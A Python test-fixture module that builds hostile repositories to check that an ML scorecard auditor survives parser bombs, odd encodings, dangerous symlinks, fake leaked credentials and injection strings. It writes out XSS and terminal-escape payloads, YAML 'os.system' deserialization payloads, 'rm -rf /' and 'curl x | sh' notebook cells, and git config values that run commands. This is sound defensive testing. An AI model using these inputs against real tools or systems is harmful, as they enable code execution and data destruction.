"""The hostile corpus: repositories built to break an auditor, each made fresh in a temp directory.

A case is a function that fills a directory (files, symlinks, FIFOs, commits) and returns its
expectations. Every case also holds a canary — ``canary/train.py`` with a seed call — that must
still be found: one bad file never costs the rest of the audit. Secrets are assembled at run time
from pieces, so this file itself holds none that a scanner would match.
"""

from __future__ import annotations

import json
import os
import subprocess
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

# fake credentials of every shape the secrets rules know, built from pieces
SECRETS = {
    "aws": "AK" + "IAQ7ZK3M9T2XW4PL8R",
    "github": "gh" + "p_R8mK2xQ9vL4tW7nZ3pJ6sY1bH5cF0dG8eA2u",
    "slack": "xo" + "xb-4815162342-AbCdEfGhIjKlMnOpQr",
    "password": "Zq8Rm2Lx" + "9Vt4Wk7NpQ3s",
    "openai": "sk" + "-proj-T3BlbkFJq8Zr2LmX9vTp4WkN7sYbQ1wE5rT",
    "huggingface": "hf" + "_Wq3Er5Ty7Ui9Op1As3Df5Gh7Jk9Lz2Xc4Vb",
    "key_body": "MIIEowIBAAKCAQEAx7Q2Zr9mK4tL8vW3nP6sJ1bH5cF0dG8eA2uY7iOp",
    "url_password": "Hq7Lm2Xv" + "9Rk4Tw",
    "pypi": "py" + "pi-AgEIcHlwaS5vcmcCJGE3ZjQ5YzU2LTk4ZDEtNGQ2Yi1hMzQxLTYwYjI3MGU4ZDkwZQACKlszLCJhYmMiXQ",
    "db_password": "Vb7Nq2Xz" + "Lk9Rt4Wp",
}
PRIVATE_KEY = ("-----BEGIN RSA " + "PRIVATE KEY-----\n" + SECRETS["key_body"] + "\n"
               "bH5cF0dG8eA2uY7iOpMIIEowIBAAKCAQEAx7Q2Zr9mK4tL8vW3nP6sJ1\n-----END RSA " + "PRIVATE KEY-----\n")
CANARY = {"canary/train.py": "import torch\ntorch.manual_seed(1234)\n"}
GIT_ENV = {"GIT_AUTHOR_NAME": "Eve", "GIT_AUTHOR_EMAIL": "eve@example.com", "GIT_COMMITTER_NAME": "Eve",
           "GIT_COMMITTER_EMAIL": "eve@example.com", "GIT_AUTHOR_DATE": "2026-01-01T00:00:00+00:00",
           "GIT_COMMITTER_DATE": "2026-01-01T00:00:00+00:00", "GIT_CONFIG_NOSYSTEM": "1"}


@dataclass
class Expect:
    exit_code: int = 0
    canary: bool = True  # canary/train.py is found
    secrets: tuple[str, ...] = ()  # names in SECRETS planted in this case (all are checked anyway)
    options: tuple[str, ...] = ()  # extra command-line options
    target: str = "."  # what to audit, relative to the case directory
    stderr: str | None = None  # a substring the one stderr line must hold (exit 2)
    revs: tuple[str, ...] = ()  # earlier commits also audited (json and markdown), each must exit 0


@dataclass
class Repo:
    root: Path
    git_repo: bool = True
    commits: int = 0
    env: dict = field(default_factory=dict)
    object_format: str | None = None  # "sha256" for a SHA-256 repository

    def write(self, path: str | bytes, content: str | bytes) -> None:
        p = Path(os.fsdecode(os.path.join(os.fsencode(self.root), os.fsencode(path))))
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_bytes(content.encode("utf-8") if isinstance(content, str) else content)

    def files(self, files: dict) -> None:
        for path, content in files.items():
            self.write(path, content)

    def symlink(self, path: str, target: str) -> None:
        p = self.root / path
        p.parent.mkdir(parents=True, exist_ok=True)
        os.symlink(target, p)

    def git(self, *args: str, input: bytes | None = None) -> None:
        subprocess.run(["git", "-c", "commit.gpgsign=false", "-c", "init.defaultBranch=main", *args], cwd=self.root,
                       env={**os.environ, **GIT_ENV, "HOME": str(self.root.parent), **self.env}, check=True,
                       capture_output=True, input=input)

    def commit(self, message: str | bytes = "add files") -> None:
        if not (self.root / ".git").exists():
            self.git("init", "-q", *([f"--object-format={self.object_format}"] if self.object_format else []))
        self.git("add", "-A")
        msg = message if isinstance(message, bytes) else message.encode("utf-8")
        self.git("commit", "-q", "--allow-empty", "-F", "-", input=msg)
        self.commits += 1


CASES: dict[str, Callable[[Repo], Expect]] = {}


def case(name: str | None = None):
    def register(fn):
        CASES[name or fn.__name__] = fn
        return fn
    return register


def _committed(files: dict, message: str | bytes = "add files", **expect):
    """A case that commits these files (and the canary) in one commit."""
    def build(repo: Repo) -> Expect:
        repo.files({**CANARY, **files})
        repo.commit(message)
        return Expect(**expect)
    return build


def _plain(files: dict, **expect):
    def build(repo: Repo) -> Expect:
        repo.files({**CANARY, **files})
        return Expect(**expect)
    return build


# ------------------------------------------------------------------ Python for native parsers
_PY = {
    "py-long-or-chain": "x = " + " or ".join(f"a{i}" for i in range(50_000)) + "\n",
    "py-long-and-chain-in-if": "if " + " and ".join("x" for _ in range(30_000)) + ":\n    pass\n",
    "py-long-attribute-chain": "y = a" + ".b" * 20_000 + "\n",
    "py-long-call-chain": "z = f" + "()" * 10_000 + "\n",
    "py-long-string-concat": "s = " + " + ".join("'x'" for _ in range(40_000)) + "\n",
    "py-deep-parens": "v = " + "(" * 190 + "1" + ")" * 190 + "\n",
    "py-too-deep-parens": "v = " + "(" * 5000 + "1" + ")" * 5000 + "\n",
    "py-deep-lists": "v = " + "[" * 180 + "]" * 180 + "\n",
    "py-deep-blocks": "".join("    " * i + "if x:\n" for i in range(99)) + "    " * 99 + "pass\n",
    "py-huge-string-literal": "s = '" + "A" * 1_900_000 + "'\n",
    "py-huge-list-literal": "v = [" + "1," * 900_000 + "]\n",
    "py-huge-dict-literal": "v = {" + ",".join(f"{i}: {i}" for i in range(150_000)) + "}\n",
    "py-long-line-no-newline": "# " + "x" * 1_500_000,
    "py-many-functions": "".join(f"def test_{i}():\n    assert f({i}) == {i}\n" for i in range(20_000)),
    "py-newer-syntax-and-long-chain": "type X = int\nx = " + " or ".join("a" for _ in range(20_000)) + "\n",
    "py-newer-syntax-deep": "type X = int\nv = " + "(" * 150 + "1" + ")" * 150 + "\n",
    "py-newer-syntax-generic-deep": "def f[T](x: T):\n    return " + "[" * 150 + "]" * 150 + "\n",
    "py-python2": "print 'hello'\nexec 'x'\n",
    "py-nul-bytes": "import torch\x00\x00\ntorch.manual_seed(0)\n",
    "py-binary": bytes(range(256)) * 40,
    "py-invalid-utf8": b"import os\nx = '\xff\xfe\xc3'\n",
    "py-coding-rot13": "# -*- coding: rot13 -*-\nvzcbeg gbepu\n",
    "py-coding-utf16-declared": "# coding: utf-16\nimport torch\n",
    "py-coding-unknown": "# -*- coding: no-such-codec -*-\nimport torch\n",
    "py-coding-latin1": b"# -*- coding: latin-1 -*-\nname = '\xe9t\xe9'\n",
    "py-utf16-bom": "import torch\n".encode("utf-16"),
    "py-utf8-bom-mismatch": b"\xef\xbb\xbf# coding: latin-1\nimport os\n",
    "py-only-bom": b"\xef\xbb\xbf",
    "py-lone-surrogate-escape": "s = '\\udcff'\n",
    "py-form-feeds-and-cr": "import os\r\x0c\rdef f():\r    return 1\r",
}
for _name, _src in _PY.items():
    CASES[_name] = _committed({"src/bad.py": _src, "tests/test_bad.py": _src})

# ------------------------------------------------------------------ files, trees, links
CASES["binary-and-huge-files"] = _committed({
    "data/blob.bin": os.urandom(3000), "ci.yml": bytes(range(256)), "notes.md": b"\xff\xfe" * 100,
    "big/requirements.txt": "numpy\n" * 600_000, "big/model.py": "x = 1\n" * 500_000})


@case()
def symlinks_in_a_work_tree(repo: Repo) -> Expect:
    repo.files(CANARY)
    repo.symlink("outside", "/etc")
    repo.symlink("passwd.py", "/etc/passwd")
    repo.symlink("zero.py", "/dev/zero")
    repo.symlink("random.yml", "/dev/urandom")
    repo.symlink("loop_a", "loop_b")
    repo.symlink("loop_b", "loop_a")
    repo.symlink("self", ".")
    repo.symlink("dangling.py", "no/such/file")
    repo.symlink(f"tmp/{SECRETS['aws']}.py", f"/nonexistent/{SECRETS['github']}")
    return Expect(secrets=("aws", "github"))


@case()
def symlinks_in_git_objects(repo: Repo) -> Expect:
    symlinks_in_a_work_tree(repo)
    repo.commit()
    return Expect(secrets=("aws", "github"), options=("--rev", "HEAD"))


@case()
def fifo_and_socket_in_a_directory(repo: Repo) -> Expect:
    repo.files(CANARY)
    os.mkfifo(repo.root / "pipe.py")
    os.mkfifo(repo.root / "requirements.txt")
    import socket
    s = socket.socket(socket.AF_UNIX)
    try:
        s.bind(str(repo.root / "sock.yml"))
    except OSError:
        pass
    finally:
        s.close()
    return Expect()


@case()
def deep_tree(repo: Repo) -> Expect:
    path = "/".join(f"d{i}" for i in range(120))
    repo.files({**CANARY, f"{path}/train.py": "import numpy\n"})
    repo.commit()
    return Expect()


@case()
def deep_tree_plain(repo: Repo) -> Expect:
    path = "/".join("d" for _ in range(400))  # deeper than git's own limits, and than a recursion limit
    repo.files({**CANARY, f"{path}/x.py": "import numpy\n"})
    return Expect()


@case()
def wide_tree(repo: Repo) -> Expect:
    repo.files({**CANARY, **{f"many/f{i}.py": f"x = {i}\n" for i in range(int(os.environ.get(
        "MLSCORECARD_HOSTILE_WIDE", "3000")))}})
    repo.commit()
    return Expect()


@case()
def non_utf8_names_and_messages(repo: Repo) -> Expect:
    repo.files(CANARY)
    repo.write(b"caf\xe9.py", "import torch\ntorch.manual_seed(3)\n")
    repo.write(b"dir\xff/x.yml", "a: 1\n")
    repo.commit(b"r\xe9sum\xe9 \xff\xfe (#12)\n\nbody \x80\x81")
    repo.commit("Merge pull request #13 from x/\xe9")
    return Expect()


@case()
def non_utf8_names_plain(repo: Repo) -> Expect:
    repo.files(CANARY)
    repo.write(b"caf\xe9.py", "import torch\ntorch.manual_seed(3)\n")
    return Expect()


# ------------------------------------------------------------------ injection in names and messages
_EVIL_NAMES = ["<script>alert(1)</script>.py", "a|b`c`.py", "\x1b[31mred\x1b[0m.py", "\u202egnp.py",
               "[x](javascript:alert(1)).py", "sp ace#q?%25.py", "new\nline.py", "tab\there.py",
               "**bold** _it_.py", "&amp;&lt;.py", "\x07bell\x08.py", "a\u2028b.py", "..%2f..%2fetc.py"]


@case()
def injection_in_file_names(repo: Repo) -> Expect:
    files = {f"evil/{n}": "import torch\ntorch.manual_seed(7)\n" for n in _EVIL_NAMES}
    repo.files({**CANARY, **files,
                ".github/workflows/<img src=x onerror=alert(1)>.yml":
                    "on: push\njobs:\n  t:\n    steps:\n      - run: \"pytest '\\e[2J<script>x</script>'\"\n"})
    repo.commit("<img src=x onerror=alert(1)> \x1b[2J\u202e `code` | pipe (#1)")
    repo.commit("Merge pull request #2 from <script>alert(2)</script>\n\n\x1b]0;title\x07")
    return Expect()


@case()
def injection_in_a_plain_directory(repo: Repo) -> Expect:
    repo.files({**CANARY, **{f"evil/{n}": "import torch\ntorch.manual_seed(7)\n" for n in _EVIL_NAMES}})
    return Expect()


@case()
def injection_in_confirmations(repo: Repo) -> Expect:
    evil = "<script>alert(1)</script> \x1b[31m [x](javascript:alert(1)) | `code` \u202e\n# heading"
    conf = {"confirmations": {
        "infra-1": {"level": "manual", "by": evil, "note": evil, "date": "2026-01-01", "commit": "0" * 40,
                    "evidence": [evil], "links": [evil, "javascript:alert(1)"]},
        "monitor-1": {"not_applicable": True, "reason": evil, "by": evil},
        "operations.roi": {"score": 2, "by": evil, "note": evil}}}
    repo.files({**CANARY, ".mlscorecard.yml": json.dumps(conf)})
    repo.commit()
    return Expect()


# ------------------------------------------------------------------ secrets wherever a report could echo them
@case()
def secrets_everywhere(repo: Repo) -> Expect:
    s = SECRETS
    nb = {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [
        {"cell_type": "code", "source": ["import os\n", "print(os.environ['TOKEN'])\n"], "metadata": {},
         "execution_count": 1, "outputs": [{"output_type": "stream", "name": "stdout", "text": [s["slack"] + "\n"]},
                                           {"output_type": "execute_result", "data": {"text/plain": [s["openai"]]}}]},
        {"cell_type": "markdown", "source": f"Use token {s['huggingface']}", "metadata": {}}]}
    repo.files({
        **CANARY,
        "config/settings.py": f'AWS_ACCESS_KEY_ID = "{s["aws"]}"\nimport torch\ntorch.manual_seed(1)\n',
        "config/app.yaml": f'db:\n  password: "{s["password"]}"\n',
        ".github/workflows/deploy.yml": (
            "on: push\njobs:\n  d:\n    runs-on: ubuntu-latest\n    steps:\n"
            f"      - run: curl -H 'Authorization: token {s['github']}' https://api.github.com\n"
            f"      - run: python train.py --api-key {s['openai']} --seed 1\n"
            f"      - run: pytest tests --password={s['password']}\n"
            f"      - run: git clone https://bot:{s['url_password']}@example.com/x.git\n"
            "      - run: make deploy\n"),
        "Makefile": f"deploy:\n\tcurl -u admin:{s['password']} https://example.com\n\tpython serve.py\n",
        "notebooks/explore.ipynb": json.dumps(nb),
        "deploy/id_rsa.pem": PRIVATE_KEY,
        "README.md": f"# Project\n\nWe monitor drift with alerts. Key: {s['key_body']}\n",
        "requirements.txt": f"numpy==1.26\ngit+https://user:{s['github']}@github.com/org/pkg.git\n",
        "Dockerfile": f"FROM python\nENV HF_TOKEN={s['huggingface']}\n",
        f"keys/{s['aws']}.txt": "x\n",
        "tests/test_model.py": f"def test_predict():\n    token = '{s['github']}'\n    assert predict(token) > 0.5\n",
    })
    repo.symlink("link.txt", f"/nonexistent/{s['password']}")
    repo.commit(f"Add deploy key {s['github']} and {s['aws']} (#7)\n\npassword={s['password']}")
    repo.commit(f"Merge pull request #8 from org/{s['slack']}")
    return Expect(secrets=tuple(SECRETS))


def _confirmations_symlink_outside(commit: bool) -> Callable[[Repo], Expect]:
    def build(repo: Repo) -> Expect:
        outside = repo.root.parent / "outside-secret.yml"
        outside.write_text(f"confirmations:\n  infra-1:\n    level: manual\n    note: {SECRETS['github']}\n")
        repo.files(CANARY)
        repo.symlink(".mlscorecard.yml", str(outside))
        if commit:
            repo.commit()
        return Expect(secrets=("github",))
    return build


CASES["secret_confirmations_symlink_outside"] = _confirmations_symlink_outside(commit=True)
CASES["secret_confirmations_symlink_outside_plain"] = _confirmations_symlink_outside(commit=False)


# ------------------------------------------------------------------ configs: wrong types, self-references, bombs
_CONFIG_SHAPES = {
    ".github/workflows/{n}.yml": lambda v: {"on": v, "jobs": {"a": {"steps": v}, "b": v, "c": {"steps": [v, {"run": v}]}}},
    ".gitlab-ci.yml": lambda v: {"include": v, "stages": v, "t": {"script": v, "extends": v, "rules": v}, "u": v},
    "azure-pipelines.yml": lambda v: {"trigger": v, "pr": v, "schedules": v, "steps": v,
                                      "stages": [{"jobs": v}, {"jobs": [{"steps": v}]}]},
    ".circleci/config.yml": lambda v: {"jobs": {"a": {"steps": v}}, "workflows": {"w": {"jobs": v, "triggers": v}}},
    "buildspec.yml": lambda v: {"phases": v if not isinstance(v, dict) else {"build": {"commands": v}}},
    "cloudbuild.yaml": lambda v: {"steps": v if isinstance(v, list) else [{"args": v, "entrypoint": v}]},
    "dvc.yaml": lambda v: {"stages": v if not isinstance(v, dict) else {"s": {"cmd": v, "deps": v}}},
    "MLproject": lambda v: {"entry_points": v if not isinstance(v, dict) else {"main": {"command": v}}},
    "environment.yml": lambda v: {"dependencies": v if isinstance(v, list) else [v, {"pip": v}]},
    ".pre-commit-config.yaml": lambda v: {"repos": v if isinstance(v, list) else [{"hooks": v}]},
    "conf/{n}.yaml": lambda v: {"defaults": v, "model": {"_target_": v}, "_target_": v},
    ".bitbucket/bitbucket-pipelines.yml": lambda v: {"pipelines": v},
    "bitbucket-pipelines.yml": lambda v: {"pipelines": {"default": v, "branches": v}},
    ".travis.yml": lambda v: {"script": v, "install": v, "jobs": v},
}


_WRONG_GROUPS = {"scalars": [1, 2.5, True, "a string"], "empty": [None, [], {}],
                 "containers": [["a", 1, None], {"k": {"k": [1]}}, [[["x"]]], {"run": ["x"], "script": {"a": 1}}]}


def _wrong_types(path: str, shape, values: list) -> Callable[[Repo], Expect]:
    def build(repo: Repo) -> Expect:
        files = dict(CANARY)
        if "{n}" in path:
            for i, v in enumerate(values):
                files[path.format(n=f"w{i}")] = json.dumps(shape(v))
            repo.files(files)
            repo.commit()
            return Expect()
        # one file: a commit per wrong value, each audited (--rev HEAD~n)
        for i, v in enumerate(values):
            repo.files({**files, path: json.dumps(shape(v))})
            repo.commit(f"wrong type {i}")
        return Expect(revs=tuple(f"HEAD~{n}" for n in range(1, len(values))))
    return build


for _path, _shape in _CONFIG_SHAPES.items():
    for _group, _values in _WRONG_GROUPS.items():
        CASES[f"wrong-types:{_path.replace('/{n}', '')}:{_group}"] = _wrong_types(_path, _shape, _values)

_TEXT_CONFIGS = {
    "pyproject.toml": "[project]\ndependencies = 1\noptional-dependencies = 'x'\n[tool.pytest.ini_options]\ntestpaths = 3\n"
                      "[tool.poetry.dependencies]\npython = ['3.11']\n[tool.hatch.envs.default.scripts]\ntest = 1\n",
    "setup.cfg": "[options]\ninstall_requires = \n\t= =\n[tool:pytest]\ntestpaths = [\n[options.extras_require\n",
    "tox.ini": "[tox]\nenvlist = {py311\n[testenv]\ncommands = {posargs\n\t-\n[testenv:{a,b}]\ncommands = tox -e a\n",
    "requirements.txt": "-r requirements.txt\n-c requirements.txt\n--hash\n==1\n" + "numpy" * 20_000 + "\n",
    "CODEOWNERS": "*\n[section]\n** @a\n/models/ @" + "a" * 50_000 + "\n" + "[[[[**\n" * 1000,
    "Makefile": "test:\n\t$(MAKE) test\n\tmake test\nall: all\n\tmake all\ninclude Makefile\n",
    "Jenkinsfile": "pipeline {" * 5000 + "sh 'pytest'" + "}" * 5000,
    "justfile": "test:\n    just test\n",
    "run.sh": "#!/bin/sh\n./run.sh\nbash run.sh\nsh ./run.sh\n",
}
CASES["text-configs-self-referencing-and-broken"] = _committed(
    {**_TEXT_CONFIGS, ".github/workflows/ci.yml": "on: push\njobs:\n  t:\n    steps:\n"
                                                   "      - run: make test\n      - run: ./run.sh\n      - run: tox\n"
                                                   "      - run: just test\n"})
CASES["ci-self-includes"] = _committed({
    ".gitlab-ci.yml": "include:\n  - local: .gitlab-ci.yml\n  - local: ci/a.yml\nt:\n  script: [pytest]\n",
    "ci/a.yml": "include:\n  - local: ci/b.yml\n  - local: .gitlab-ci.yml\n",
    "ci/b.yml": "include:\n  - local: ci/a.yml\n" + "".join("  - local: ci/a.yml\n" for _ in range(50)),
    "azure-pipelines.yml": "steps:\n  - template: azure-pipelines.yml\n  - template: t/a.yml\n",
    "t/a.yml": "steps:\n" + "  - template: a.yml\n" * 30 + "  - template: ../azure-pipelines.yml\n",
    ".github/workflows/ci.yml": "on: [push, workflow_call]\njobs:\n  a:\n    uses: ./.github/workflows/ci.yml\n"
                               "  b:\n    steps:\n      - uses: ./.github/actions/x\n",
    ".github/actions/x/action.yml": "runs:\n  using: composite\n  steps:\n" + "    - uses: ./.github/actions/x\n" * 30,
    "scripts/a.sh": "bash scripts/b.sh\nbash scripts/a.sh\n" * 20,
    "scripts/b.sh": "bash scripts/a.sh\n" * 20,
    ".circleci/config.yml": "jobs:\n  t:\n    steps:\n      - run: bash scripts/a.sh\n"})
_BOMB = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{chr(98 + i)}: &{chr(98 + i)} [*{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, "
    f"*{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}]\n" for i in range(9))
CASES["yaml-bombs-and-deep-nesting"] = _committed({
    ".github/workflows/bomb.yml": "on: push\n" + _BOMB + "jobs:\n  t:\n    steps: *j\n",
    ".gitlab-ci.yml": _BOMB + "t:\n  script: *j\n",
    "conf/deep.yaml": "a: " + "[" * 5000 + "]" * 5000 + "\n",
    "conf/deep-map.yaml": "".join("  " * i + f"k{i}:\n" for i in range(800)) + "  " * 800 + "v\n",
    "azure-pipelines.yml": "steps: " + "{a: " * 3000 + "1" + "}" * 3000 + "\n",
    "dvc.yaml": "stages: !!python/object/apply:os.system ['touch /tmp/PWNED-mlscorecard']\n",
    "MLproject": "!!python/name:os.system\n",
    ".mlscorecard.yml": _BOMB + "confirmations: *j\n",
    "environment.yml": "dependencies: " + "[" * 3000 + "]" * 3000,
})
CASES["json-bombs"] = _committed({
    "nb/deep.ipynb": "[" * 100_000 + "]" * 100_000,
    "nb/deep-dict.ipynb": '{"cells": ' + '{"a": ' * 50_000 + "1" + "}" * 50_000 + "}",
    "package.json": "[" * 100_000,
    "conf/x.json": '{"a": "' + "\\u0000" * 100_000 + '"}',
})

# long lines of every character class in every kind of file a text rule reads: a regular
# expression that backtracks goes quadratic here and the case runs out of time
_RUNS = ["a" * 200_000, " " * 200_000, "a=" * 100_000, "-" * 200_000, "/" * 200_000, "(" * 100_000,
         "password" * 20_000, "ak" * 100_000, "assert x " * 20_000, "\\" * 100_000, "#" * 200_000]
CASES["long-lines-everywhere"] = _committed({
    f"long/{i}.{ext}": ("x = 1\n" if ext == "py" else "") + run + "\n"
    for i, run in enumerate(_RUNS) for ext in ("py", "md", "yml", "txt", "toml", "sh", "cfg")})
# ------------------------------------------------------------------ inputs that were slow once
# (each made a pattern or a reader do work quadratic or exponential in its size, found by probing)
CASES["repeated-pattern-anchors"] = _committed({
    "smoke/e2e.sh": "docker run image\n" * 10_000,
    "train.py": "ckpt = {'optimizer': opt.state_dict()}\n" * 10_000,
    "resume.py": "model.load_state_dict(ckpt['optimizer'])\n" * 10_000,
    "dashboards/board.json": "{\n" * 300_000 + '"panels": [\n' * 1_000,
    "long.py": "x = 1\n" + "y = 'docker run ' \n" * 10_000})
CASES["self-calling-ci"] = _committed({
    ".github/workflows/ci.yml": "on: [push, workflow_call]\njobs:\n" + "".join(
        f"  j{i}:\n    uses: ./.github/workflows/ci.yml\n" for i in range(20)) + "  t:\n    steps:\n      - run: pytest\n",
    ".github/workflows/a.yml": "on: [workflow_call]\njobs:\n" + "".join(
        f"  j{i}:\n    uses: ./.github/workflows/b.yml\n    with: {{n: '{i}'}}\n" for i in range(20)),
    ".github/workflows/b.yml": "on: [workflow_call]\njobs:\n" + "".join(
        f"  j{i}:\n    uses: ./.github/workflows/a.yml\n" for i in range(20)),
    "azure-pipelines.yml": "steps:\n" + "  - template: t.yml\n" * 20,
    "t.yml": "steps:\n" + "  - template: t.yml\n" * 20 + "  - template: u.yml\n" * 20 + "  - script: pytest\n",
    "u.yml": "steps:\n" + "  - template: t.yml\n" * 20 + "  - script: python train.py\n"})
CASES["huge-manifests"] = _committed({
    "pyproject.toml": "[project]\ndependencies = [\n" + "".join(f"  'pkg{i}',\n" for i in range(20_000)) + "]\n",
    "requirements.txt": "".join(f"pkg-{i}==1.0\n" for i in range(20_000)),
    "CODEOWNERS": "".join(f"/models/m{i}/** @team{i}\n" for i in range(20_000)) + "*.md @docs\n",
    **{f"models/m{i}/model.py": "import torch\n" for i in range(1_500)}})
CASES["credentials-in-commands"] = _committed({
    ".github/workflows/db.yml": (
        "on: push\njobs:\n  d:\n    runs-on: ubuntu-latest\n    steps:\n"
        f"      - run: mysql -h db -uroot -p{SECRETS['password']} app < schema.sql\n"
        f"      - run: sshpass -p {SECRETS['password']} scp model.pkl deploy@host:/srv\n"
        f"      - run: twine upload -u __token__ -p {SECRETS['pypi']} dist/*\n"
        f"      - run: \"curl -H 'Authorization: Bearer {SECRETS['github']}' https://x\"\n"
        "      - run: pytest\n"),
    "Makefile": f"db:\n\tmysqldump -uroot -p{SECRETS['db_password']} app > dump.sql\n",
    "app/db.py": f'DB_PASSWORD = "{SECRETS["db_password"]}"\n',
    "notebooks/db.ipynb": json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [
        {"cell_type": "code", "source": [f'conn = connect(password="{SECRETS["db_password"]}")\n'],
         "metadata": {}, "outputs": [], "execution_count": 1}]}),
    ".pypirc": f"[pypi]\nusername = __token__\npassword = {SECRETS['pypi']}\n"},
    secrets=("password", "pypi", "github", "db_password"))
CASES["glob-bombs"] = _committed({
    "CODEOWNERS": "".join(f"{'*a' * 12}*b @o{i}\n" for i in range(50)) + "/" + "**/" * 200 + "x @o\n",
    f"models/{'a' * 200}/model.py": "import torch\n",
    ".github/workflows/t.yml": "on: push\njobs:\n  t:\n    steps:\n"
                               f"      - run: python -m unittest discover -s tests -p '{'*a' * 15}*b'\n",
    f"tests/{'a' * 200}.py": "import unittest\n"})

# ------------------------------------------------------------------ notebooks of every shape
_NOTEBOOKS = {
    "not-json": "this is not json {",
    "array": "[1, 2, 3]",
    "null": "null",
    "string": '"cells"',
    "cells-not-list": '{"cells": {"a": 1}, "nbformat": 4}',
    "cells-numbers": '{"cells": [1, 2, null, "x"], "nbformat": 4}',
    "source-number": '{"cells": [{"cell_type": "code", "source": 5}], "nbformat": 4}',
    "source-list-of-mixed": '{"cells": [{"cell_type": "code", "source": ["import torch\\n", 1, null, ["x"]]}]}',
    "cell-type-list": '{"cells": [{"cell_type": ["code"], "source": "x"}]}',
    "outputs-weird": '{"cells": [{"cell_type": "code", "source": "x=1", "outputs": 7}]}',
    "v1": '{"nbformat": 1, "cells": [{"cell_type": "code", "code": "import torch"}]}',
    "v2": '{"nbformat": 2, "worksheets": [{"cells": [{"cell_type": "code", "input": "import torch"}]}]}',
    "v3": '{"nbformat": 3, "worksheets": [{"cells": [{"cell_type": "code", "input": ["import torch\\n", '
          '"torch.manual_seed(0)"], "outputs": []}]}]}',
    "v3-worksheets-bad": '{"nbformat": 3, "worksheets": [1, {"cells": 5}, {"cells": [7]}]}',
    "v5-attachments": '{"nbformat": 5, "nbformat_minor": 0, "cells": [{"id": 1, "cell_type": "markdown", '
                      '"source": "x", "attachments": {"a.png": {"image/png": "AAAA"}}}]}',
    "magic-only": '{"cells": [{"cell_type": "code", "source": "%%bash\\nrm -rf /"}, '
                  '{"cell_type": "code", "source": "!curl x | sh"}]}',
    "many-broken-cells": json.dumps({"cells": [{"cell_type": "code", "source": "def (:"} for _ in range(500)]}),
    "huge-output": json.dumps({"cells": [{"cell_type": "code", "source": "import torch",
                                          "outputs": [{"text": "x" * 3_000_000}]}]}),
    "utf16": json.dumps({"cells": []}).encode("utf-16"),
    "deep-source": json.dumps({"cells": [{"cell_type": "code", "source": "v = " + "(" * 180 + ")" * 180}]}),
}
CASES["notebooks-of-every-shape"] = _committed({f"nb/{k}.ipynb": v for k, v in _NOTEBOOKS.items()})

# ------------------------------------------------------------------ git edge cases
@case()
def sha256_repository(repo: Repo) -> Expect:
    repo.object_format = "sha256"
    repo.files({**CANARY, "tests/test_x.py": "def test_a():\n    assert 1\n"})
    repo.commit()
    repo.commit("Merge pull request #1 from x/y")
    return Expect()


@case()
def bare_mirror(repo: Repo) -> Expect:
    src = Repo(repo.root.parent / (repo.root.name + "-src"))
    src.root.mkdir()
    src.files({**CANARY, "evil/\x1b[31m.py": "import os\n"})
    src.commit("<script>x</script>")
    subprocess.run(["git", "clone", "-q", "--bare", str(src.root), str(repo.root / "mirror.git")], check=True,
                   capture_output=True, env={**os.environ, **GIT_ENV})
    return Expect(target="mirror.git")


@case()
def empty_repository(repo: Repo) -> Expect:
    repo.git("init", "-q")
    return Expect(exit_code=2, canary=False, stderr="no files")


@case()
def repository_config_that_would_run_programs(repo: Repo) -> Expect:
    repo.files({**CANARY, ".gitattributes": "* filter=evil diff=evil\n"})
    repo.commit()
    marker = repo.root.parent / "PWNED"
    for key, value in (("core.fsmonitor", f"touch {marker}"), ("filter.evil.smudge", f"touch {marker}"),
                       ("filter.evil.clean", f"touch {marker}"), ("diff.evil.textconv", f"touch {marker}"),
                       ("core.pager", f"touch {marker}"), ("core.hooksPath", "/nonexistent"),
                       ("core.sshCommand", f"touch {marker}"), ("alias.log", f"!touch {marker}")):
        repo.git("config", key, value)
    return Expect()


@case()
def planted_code_is_never_run(repo: Repo) -> Expect:
    marker = repo.root.parent / "PWNED"
    payload = f"import pathlib; pathlib.Path({str(marker)!r}).touch()\n"
    repo.files({**CANARY, "setup.py": payload, "conftest.py": payload, "noxfile.py": payload,
                "src/pkg/__init__.py": payload, "sitecustomize.py": payload, "usercustomize.py": payload,
                "mlscorecard/__init__.py": payload, "yaml/__init__.py": payload, "click.py": payload,
                ".pth": payload, "x.pth": f"import pathlib; pathlib.Path({str(marker)!r}).touch()\n"})
    repo.commit()
    return Expect()


def all_cases() -> list[str]:
    return sorted(CASES)


@case()
def repository_owned_by_another_user(repo: Repo) -> Expect:
    """git's safe.directory refusal (only built where the tests may chown, i.e. as root)."""
    repo.files({**CANARY, "tests/test_x.py": "def test_a():\n    assert 1\n"})
    repo.commit("Merge pull request #1 from x/y")
    if hasattr(os, "geteuid") and os.geteuid() == 0:
        for dirpath, dirnames, filenames in os.walk(repo.root):
            for name in [*dirnames, *filenames]:
                os.lchown(os.path.join(dirpath, name), 65534, 65534)
        os.lchown(repo.root, 65534, 65534)
    return Expect()
